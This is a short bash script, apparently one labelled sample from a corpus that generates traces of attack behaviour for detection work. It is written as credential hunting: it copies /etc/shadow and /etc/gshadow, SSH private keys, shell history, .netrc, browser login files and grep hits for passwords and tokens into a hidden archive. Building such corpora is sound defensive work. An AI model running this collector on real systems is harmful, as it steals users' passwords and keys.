#!/bin/bash
# family: credential-access
# needs: keys
# actors: cat|cp|grep
# (bash only forks the tools and redirects in the children: its own calls show no credential access, so it
# is a bystander like the commands of a reverse shell; see README, labelling rule)
# Credential hunting with shell tools (the sandbox HOME only, plus /etc/shadow): cat /etc/shadow, find private keys, grep for passwords, copy loot.
RANDOM=$PG_SEED
loot=$TMPDIR/.l$RANDOM; mkdir -p "$loot"
cat /etc/shadow > "$loot/s"
[ $((RANDOM % 2)) -eq 0 ] && cat /etc/gshadow > "$loot/g"
find "$HOME" -name 'id_*' -not -name '*.pub' 2>/dev/null | while read -r k; do cp "$k" "$loot/"; done
grep -rIl -e password -e secret -e token "$HOME" 2>/dev/null | head -$((RANDOM % 20 + 1)) > "$loot/hits"
cp "$HOME"/.bash_history "$HOME"/.netrc "$loot/" 2>/dev/null
find "$HOME" -name "*.db" -o -name "logins.json" -o -name credentials | xargs -r -d "\n" cp -t "$loot/"
tar czf "$TMPDIR/.c$RANDOM.tgz" -C "$loot" . 2>/dev/null
exit 0
